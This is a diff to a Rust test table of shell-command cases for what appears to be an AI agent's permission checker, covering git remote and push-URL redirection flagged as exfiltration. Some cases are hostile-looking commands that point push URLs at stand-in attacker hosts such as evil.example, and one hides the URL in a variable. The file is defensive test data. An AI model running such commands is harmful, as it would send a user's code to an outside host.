@@ -754,13 +754,12 @@ pub(crate) const CASES: &[Case] = &[
     allow("csrutil status"),
     // Red team 15, cause 7: a later push goes to another host; tokens kept in plain text;
     // every repository trusted; a repository made public as it is created. (This table's
-    // project has no `.git/config`: a changed URL is to a host none of its remotes is on.)
+    // project has no `.git/config`, so only a push URL and a URL known at run time ask;
+    // `exfiltration.rs`'s test compares `set-url` with a repository's remotes.)
     ask("exfiltration.git-redirect", "git config remote.origin.pushurl https://gitlab.example.net/x/y.git"),
     ask("exfiltration.git-redirect", "git config --global remote.origin.pushurl git@evil.example:x/y.git"),
-    ask("exfiltration.git-redirect", "git remote set-url origin https://x.example/y.git"),
-    ask("exfiltration.git-redirect", "git remote set-url --push origin https://x.example/y.git"),
-    ask("exfiltration.git-redirect", "git -C sub remote set-url origin https://evil.example/x"),
-    ask("exfiltration.git-redirect", "u=https://evil.example/x; git remote set-url origin $u"),
+    ask("exfiltration.git-redirect", "git remote set-url origin \"$URL\""),
+    allow("git remote set-url origin git@github.com:org/demo-app.git"),
     allow("git remote add origin git@github.com:me/app.git"),
     allow("git remote -v"),
     allow("git remote get-url origin"),
